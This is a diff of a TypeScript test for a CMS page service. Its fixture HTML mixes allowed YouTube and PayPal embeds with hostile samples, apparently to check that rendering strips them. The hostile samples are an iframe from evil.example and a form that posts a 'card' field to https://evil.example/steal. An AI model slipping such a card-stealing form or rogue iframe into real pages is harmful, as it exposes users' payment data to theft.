@@ -10,17 +10,21 @@ import { createPageService } from '../../../web/src/services/pageService';
 import { createFakeServices } from '../support/fakeServices';
 import { startTestApp } from '../support/startTestApp';
 import type { TestServer } from '../support/startTestServer';
+import { trustedRichTextHtml } from '../../../lib/markup/storedMarkup';
 
 const source =
   '<h2>Keynote</h2><iframe src="https://www.youtube.com/embed/abc123" width="560" height="315" title="Keynote"></iframe>' +
   '<iframe src="https://evil.example/frame">no</iframe>' +
   '<form action="https://www.paypal.com/donate" method="post"><input type="hidden" name="hosted_button_id" value="XYZ"><button type="submit">Donate</button></form>' +
   '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>';
+const content = { root: { type: 'root', format: '', indent: 0, version: 1, direction: 'ltr', children: [{ type: 'block', version: 2, format: '', fields: { blockType: 'rawMarkup', markupType: 'html', source } }] } };
+// The HTML the CMS stores beside the content when the page is saved (collections/Pages).
 const page: PageDoc = {
   id: 1,
   title: 'Donate',
   path: '/psf/donations/',
-  content: { root: { type: 'root', format: '', indent: 0, version: 1, direction: 'ltr', children: [{ type: 'block', version: 2, format: '', fields: { blockType: 'rawMarkup', markupType: 'html', source } }] } },
+  content,
+  contentHtml: trustedRichTextHtml(content),
   description: null,
   keywords: null,
   updatedAt: null,
